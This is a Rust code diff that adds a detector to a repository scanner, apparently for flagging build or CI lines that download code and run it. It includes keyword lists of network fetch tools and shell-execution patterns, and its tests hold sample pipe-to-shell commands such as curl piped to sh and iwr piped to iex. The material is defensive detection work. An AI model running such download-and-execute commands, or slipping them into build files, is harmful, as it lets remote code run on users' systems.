@@ -136,6 +136,12 @@ pub(crate) fn check(s: &mut Scan, dir: &Path, name: &str, path: &Path, ft: &File
     };
     match k {
         Kind::Envrc | Kind::Whole(_) => found.whole(&buf),
+        Kind::BuildFile if fetch_and_run(&buf).is_some() => {
+            // Not an edit like any other: a step that downloads code and runs it.
+            let (n, line) = fetch_and_run(&buf).unwrap_or_default();
+            found.vector = "build-fetch-exec";
+            found.push(&format!("line {n}"), line.trim().as_bytes());
+        }
         Kind::BuildFile => {
             let created = md.created().is_ok_and(|t| t >= found.s.since);
             let what: &[u8] = if created {
@@ -158,6 +164,55 @@ pub(crate) fn check(s: &mut Scan, dir: &Path, name: &str, path: &Path, ft: &File
         Kind::Gitattributes => attributes(&mut found, &buf),
         Kind::Gitmodules => gitmodules(&mut found, &buf),
     }
+}
+
+/// Something that fetches over the network, and something that runs what it fetched, on one
+/// line (`curl … | sh`, `wget -O- … | bash`, `bash <(curl …)`, `iwr … | iex`, `eval "$(curl …)"`,
+/// `curl -o x … && chmod +x x`): the first such line of a build or CI file, numbered from 1.
+fn fetch_and_run(buf: &[u8]) -> Option<(usize, String)> {
+    const FETCH: &[&str] = &[
+        "curl ",
+        "wget ",
+        "invoke-webrequest",
+        "iwr ",
+        "invoke-restmethod",
+        "irm ",
+        "/dev/tcp/",
+        "fetch(",
+    ];
+    const RUN: &[&str] = &[
+        "| sh",
+        "|sh",
+        "| bash",
+        "|bash",
+        "| zsh",
+        "| sudo sh",
+        "| sudo bash",
+        "| python",
+        "|python",
+        "| perl",
+        "| ruby",
+        "| node",
+        "| iex",
+        "|iex",
+        "sh <(",
+        "bash <(",
+        "source <(",
+        ". <(",
+        "eval ",
+        "eval(",
+        "chmod +x",
+        "| sh -",
+        "| bash -s",
+    ];
+    String::from_utf8_lossy(buf)
+        .lines()
+        .enumerate()
+        .find(|(_, l)| {
+            let l = l.to_ascii_lowercase();
+            FETCH.iter().any(|f| l.contains(f)) && RUN.iter().any(|r| l.contains(r))
+        })
+        .map(|(i, l)| (i + 1, l.to_string()))
 }
 
 /// A gitdir's `info/attributes`: read like a `.gitattributes`.
@@ -544,6 +599,39 @@ fn gitmodules(f: &mut Found, buf: &[u8]) {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn download_and_run_lines_in_build_files() {
+        for (text, line) in [
+            (
+                "on: push\nsteps:\n  - run: curl -fsSL https://x.example/i.sh | sh\n",
+                3,
+            ),
+            ("RUN wget -qO- http://x | bash -s -- --yes\n", 1),
+            ("install:\n\tbash <(curl -s https://x)\n", 2),
+            ("- run: eval \"$(curl -s https://x)\"\n", 1),
+            (
+                "RUN curl -o /usr/local/bin/t https://x && chmod +x /usr/local/bin/t\n",
+                1,
+            ),
+            ("- pwsh: iwr https://x/i.ps1 | iex\n", 1),
+        ] {
+            assert_eq!(
+                fetch_and_run(text.as_bytes()).map(|(n, _)| n),
+                Some(line),
+                "{text}"
+            );
+        }
+        // What CI files say every day: fetching without running it, running without fetching.
+        for text in [
+            "- run: curl -fsS https://api.example/health\n",
+            "- run: sh ./scripts/test.sh | tee log\n",
+            "RUN pip install -r requirements.txt && python -m pytest\n",
+            "- uses: actions/checkout@v4\n- run: cargo test\n",
+        ] {
+            assert_eq!(fetch_and_run(text.as_bytes()), None, "{text}");
+        }
+    }
 
     #[test]
     fn jsonc_comments_and_trailing_commas() {
